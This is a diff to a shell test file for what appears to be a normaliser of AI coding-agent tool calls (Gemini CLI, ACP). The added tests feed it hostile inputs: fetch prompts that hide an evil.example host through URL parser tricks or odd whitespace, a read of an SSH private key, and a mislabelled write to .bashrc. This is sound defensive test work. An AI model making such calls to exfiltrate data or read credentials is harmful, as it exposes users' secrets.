@@ -655,12 +655,26 @@ setup_reply() {
 		    hook_event_name: "BeforeTool", tool_name: $t, tool_input: $i, cwd: $cwd}' |
 		    jh-normalize -H gemini-cli | jq -c '[.input.url // .input.paths, .malformed]'
 	}
+	# the whole piece, as Gemini CLI fetches it: a full stop after it too
 	run -0 gm web_fetch '{"prompt":"Summarize https://docs.example.com/a."}'
-	assert_output '["https://docs.example.com/a",null]'
+	assert_output '["https://docs.example.com/a.",null]'
 	run -0 gm web_fetch '{"url":"https://docs.example.com/a","prompt":"Summarize https://evil.example.net/x?d=1"}'
 	assert_output --partial 'more than one URL'
 	run -0 gm web_fetch '{"prompt":"no address"}'
 	assert_output --partial 'names no URL'
+	# the prompt is split at white space as JavaScript's \s splits it,
+	# and each piece is the URL new URL() reads: its host after a [ or a
+	# quote is evil.example's
+	run -0 gm web_fetch '{"prompt":"Summarize https://localhost[@evil.example/leak?k=1"}'
+	assert_output '["https://localhost[@evil.example/leak?k=1",null]'
+	run -0 gm web_fetch '{"prompt":"Summarize https://localhost'"'"'@evil.example/leak"}'
+	assert_output --partial '@evil.example/leak'
+	for sp in '\u00a0' '\f' '\u3000' '\u2028'; do
+		run -0 gm web_fetch "{\"prompt\":\"Summarize https://localhost/a${sp}https://evil.example/x\"}"
+		assert_output --partial 'more than one URL'
+	done
+	run -0 gm web_fetch '{"prompt":"see xhttps://evil.example/x"}'
+	assert_output --partial 'more than one URL'
 	run -0 gm read_many_files '{"include":["src/deep/**/*.ts","README.md","**/.en?","SRC/**","/etc/*.conf"]}'
 	assert_output '[["src/deep","README.md",".",".","/etc"],null]'
 	run -0 gm read_many_files '{"include":["src/**/*.{ts,tsx}"]}'
@@ -688,6 +702,9 @@ setup_reply() {
 	assert_output --partial '/p/.mcp.json'
 	run -0 acp '{"toolCallId":"r1","kind":"read","status":"pending","title":"r","locations":[{"path":"/p/Makefile"}],"rawInput":{"absolute_path":"/home/u/.ssh/id_rsa"}}'
 	assert_output --partial '/home/u/.ssh/id_rsa'
+	# a tool of no class of its own may not say it edits
+	run -0 acp '{"toolCallId":"t1","kind":"edit","status":"pending","title":"TodoWrite","rawInput":{"file_path":"/home/u/.bashrc","content":"x"},"_meta":{"claudeCode":{"toolName":"TodoWrite"}}}'
+	assert_output --partial 'the tool call says it is TodoWrite, of kind edit'
 	# a search checks one path: two that differ make the call malformed
 	run -0 acp '{"toolCallId":"s1","kind":"search","status":"pending","title":"grep","locations":[{"path":"/p"},{"path":"/home/u/.ssh"}],"rawInput":{"pattern":"x"}}'
 	assert_output --partial 'more than one path'
